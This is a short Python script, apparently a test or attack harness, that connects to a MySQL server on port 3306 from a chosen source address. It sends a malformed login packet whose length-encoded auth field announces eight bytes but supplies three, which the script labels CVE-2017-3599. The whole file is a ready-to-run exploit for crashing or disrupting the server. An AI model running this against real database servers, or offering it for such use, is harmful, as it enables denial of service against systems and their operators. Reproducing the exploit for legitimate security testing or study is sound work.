"""Sends what no client sends, from an address of its own.

usage: attack.py HOST SOURCE malformed-login
"""
import socket
import struct
import sys

CLIENT_LONG_PASSWORD, CLIENT_PROTOCOL_41, CLIENT_SECURE_CONNECTION = 0x1, 0x200, 0x8000
CLIENT_PLUGIN_AUTH, CLIENT_PLUGIN_AUTH_LENENC_CLIENT_DATA = 0x80000, 0x200000
UTF8MB4 = 45


def exactly(s, n):
    data = b""
    while len(data) < n:
        more = s.recv(n - len(data))
        if not more:
            raise SystemExit("the server closed the connection")
        data += more
    return data


def packet(s):
    head = exactly(s, 4)
    return exactly(s, int.from_bytes(head[:3], "little"))


def malformed_login(host, source):
    """A login whose response has a length that ends in its own middle (CVE-2017-3599)."""
    s = socket.create_connection((host, 3306), timeout=5, source_address=(source, 0))
    packet(s)
    body = struct.pack("<IIB23x", CLIENT_LONG_PASSWORD | CLIENT_PROTOCOL_41 | CLIENT_SECURE_CONNECTION | CLIENT_PLUGIN_AUTH |
                       CLIENT_PLUGIN_AUTH_LENENC_CLIENT_DATA, 0x1000000, UTF8MB4)
    body += b"root\0" + b"\xfe" + b"\xff\xff\xff"  # 0xfe announces eight bytes of length; three follow
    s.sendall(len(body).to_bytes(3, "little") + b"\1" + body)
    try:
        print("answer", packet(s))
        s.recv(1)
    except (SystemExit, OSError) as end:
        print(end)
    s.close()


{"malformed-login": malformed_login}[sys.argv[3]](sys.argv[1], sys.argv[2])
